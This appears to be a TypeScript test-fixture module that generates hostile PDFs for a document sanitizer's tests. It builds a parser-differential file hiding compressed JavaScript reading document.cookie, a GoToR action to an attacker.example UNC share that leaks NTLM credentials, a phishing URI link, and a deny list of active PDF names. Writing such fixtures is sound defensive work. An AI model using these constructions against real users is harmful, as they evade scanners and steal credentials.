import { deflateSync } from 'node:zlib';

/**
 * Real documents and hostile ones, built byte by byte so each test knows what the file holds.
 * The pages are 200 × 100 points with a blue band (0 0 1 rg), so a render can be checked.
 */
export const PAGE_SIZE = { width: 200, height: 100 } as const;
const PAGE_CONTENT = '0 0 1 rg 10 10 180 80 re f\n';

interface PdfObject {
  id: number;
  /** Written as `id 0 obj … endobj`; a Buffer body is a stream with this dictionary. */
  dict: string;
  stream?: Buffer;
}

/**
 * A PDF with a classic cross-reference table whose offsets are computed. `extraXref` entries
 * are written as given (an offset into another object's bytes, a parser differential).
 */
function writePdf(
  objects: PdfObject[],
  trailer: string,
  extraXref: Record<number, number> = {},
): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets = new Map<number, number>();
  let length = parts[0]!.length;
  for (const object of objects) {
    offsets.set(object.id, length);
    const body = object.stream
      ? Buffer.concat([
          Buffer.from(`${object.id} 0 obj\n${object.dict}\nstream\n`, 'latin1'),
          object.stream,
          Buffer.from('\nendstream\nendobj\n'),
        ])
      : Buffer.from(`${object.id} 0 obj\n${object.dict}\nendobj\n`, 'latin1');
    parts.push(body);
    length += body.length;
  }
  for (const [id, offset] of Object.entries(extraXref)) offsets.set(Number(id), offset);
  const size = Math.max(...offsets.keys()) + 1;
  let xref = `xref\n0 ${size}\n0000000000 65535 f \n`;
  for (let id = 1; id < size; id += 1) {
    const offset = offsets.get(id);
    xref +=
      offset === undefined
        ? '0000000000 65535 f \n'
        : `${String(offset).padStart(10, '0')} 00000 n \n`;
  }
  parts.push(
    Buffer.from(`${xref}trailer\n<< /Size ${size} ${trailer} >>\nstartxref\n${length}\n%%EOF\n`),
  );
  return Buffer.concat(parts);
}

function onePage(catalogExtra = '', pageExtra = ''): PdfObject[] {
  const content = Buffer.from(PAGE_CONTENT);
  return [
    { id: 1, dict: `<< /Type /Catalog /Pages 2 0 R ${catalogExtra} >>` },
    { id: 2, dict: '<< /Type /Pages /Kids [4 0 R] /Count 1 >>' },
    {
      id: 4,
      dict: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${PAGE_SIZE.width} ${PAGE_SIZE.height}] /Contents 5 0 R ${pageExtra} >>`,
    },
    { id: 5, dict: `<< /Length ${content.length} >>`, stream: content },
  ];
}

/** A plain one-page PDF, as a scanner or "print to PDF" writes it. */
export function plainPdf(): Buffer {
  return writePdf(onePage(), '/Root 1 0 R');
}

/**
 * The parser differential of issue #32 item 16: the catalog opens action 3, which is in a
 * compressed object stream (6) whose bytes sit *inside* the stream of another object (7). A
 * sequential parser (pdf-lib) sees object 7's data and no object 3 or 6; a reader following the
 * cross-reference (pdf.js, Acrobat) finds object 6 there and runs the JavaScript when the file
 * opens. Compressed, the action's names are not in the raw bytes either.
 */
export function xrefIntoStreamPdf(): Buffer {
  const action = Buffer.from('3 0 << /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>');
  const packed = deflateSync(action);
  const inner = Buffer.concat([
    Buffer.from(
      `6 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`,
    ),
    packed,
    Buffer.from('\nendstream\nendobj\n'),
  ]);
  const carrier: PdfObject = { id: 7, dict: `<< /Length ${inner.length} >>`, stream: inner };
  const objects = [...onePage('/OpenAction 3 0 R'), carrier];
  // Where object 7's stream data (and so object 6) starts in the file.
  const before = writePdf(objects, '/Root 1 0 R');
  const innerAt = before.indexOf(inner);
  // A cross-reference stream is needed to say "object 3 is number 0 in object stream 6"; it
  // comes last and is found through startxref, as readers do.
  const body = before.subarray(0, before.indexOf(Buffer.from('xref\n0 ')));
  const offsetOf = (id: number) => body.indexOf(Buffer.from(`\n${id} 0 obj\n`)) + 1;
  const rows: [number, number, number][] = [
    [0, 0, 0xffff],
    [1, offsetOf(1), 0],
    [1, offsetOf(2), 0],
    [2, 6, 0], // object 3: in object stream 6, index 0
    [1, offsetOf(4), 0],
    [1, offsetOf(5), 0],
    [1, innerAt, 0], // object 6: inside object 7's stream
    [1, offsetOf(7), 0],
    [1, body.length, 0], // object 8: this cross-reference stream
  ];
  const table = Buffer.concat(
    rows.map(([type, field2, field3]) => {
      const row = Buffer.alloc(7);
      row.writeUInt8(type, 0);
      row.writeUInt32BE(field2, 1);
      row.writeUInt16BE(field3, 5);
      return row;
    }),
  );
  return Buffer.concat([
    body,
    Buffer.from(
      `8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Length ${table.length} >>\nstream\n`,
    ),
    table,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${body.length}\n%%EOF\n`),
  ]);
}

/** A one-page PDF that opens a file on a Windows share (`GoToR` to a UNC path: NTLM leak). */
export function goToRPdf(): Buffer {
  return writePdf(
    [
      ...onePage('/OpenAction 3 0 R'),
      {
        id: 3,
        dict: '<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>',
      },
    ],
    '/Root 1 0 R',
  );
}

/** A one-page PDF whose page has a link to a web address and that opens with a named action. */
export function uriAndNamedPdf(): Buffer {
  return writePdf(
    [
      ...onePage(
        '/OpenAction << /S /Named /N /Print >>',
        '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 100] /A << /S /URI /URI (https://attacker.example/phish) >> >>]',
      ),
    ],
    '/Root 1 0 R',
  );
}

/** Names that make a PDF do something; none may be in a stored document. */
export const ACTIVE_PDF_NAMES = [
  '/JavaScript',
  '/JS',
  '/OpenAction',
  '/AA',
  '/GoToR',
  '/URI',
  '/Launch',
  '/Named',
  '/EmbeddedFile',
];
